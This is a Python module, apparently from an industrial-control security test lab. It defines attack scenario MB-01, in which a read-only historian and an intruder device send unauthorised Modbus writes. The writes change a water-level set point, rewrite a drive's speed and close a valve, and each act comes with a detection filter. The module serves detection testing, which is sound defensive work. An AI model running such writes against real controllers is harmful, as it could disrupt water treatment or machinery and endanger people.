"""MB-01 unauthorised write.

Benign twin: hmi-water writes the same registers of both controllers.
"""

from __future__ import annotations

from ..plant import modbus_client, plc_gateway, plc_water
from ..plant.modbus_client import good
from .base import Act, Attack, text


def reader_writes() -> None:
    client = modbus_client.connect("plc-water")
    good(client.write_register(100, 950, device_id=plc_water.UNIT))
    client.close()


def stranger_writes() -> None:
    client = modbus_client.connect("plc-gateway")
    good(client.write_registers(0, [1, 2900], device_id=plc_gateway.DRIVE))
    good(client.write_coil(3, False, device_id=plc_gateway.VALVES))
    client.close()


ATTACK = Attack(
    "MB-01",
    text("无写权限的设备写入 Modbus 寄存器", "A machine without the right to write writes Modbus registers"),
    (
        Act(
            "reader-writes",
            "historian",
            "plc-water",
            text(
                "只读的历史数据服务器把液位设定值改为 95%(FC 6)",
                "The historian, which only reads, sets the level set point to 95 % (FC 6)",
            ),
            "pymodbus",
            "modbus.func_code == 6",
            reader_writes,
            also=("MB-03", "MB-05", "MB-10", "MB-07"),
        ),
        Act(
            "stranger-writes",
            "intruder",
            "plc-gateway",
            text(
                "新设备改写变频器转速并关闭阀门(FC 16、FC 5)",
                "A new device rewrites the drive's speed and closes a valve (FC 16, FC 5)",
            ),
            "pymodbus",
            "modbus.func_code in {5, 16}",
            stranger_writes,
            also=("NET-01", "NET-06", "MB-03", "MB-04", "MB-05", "MB-10", "COR-02", "MB-07"),
        ),
    ),
)
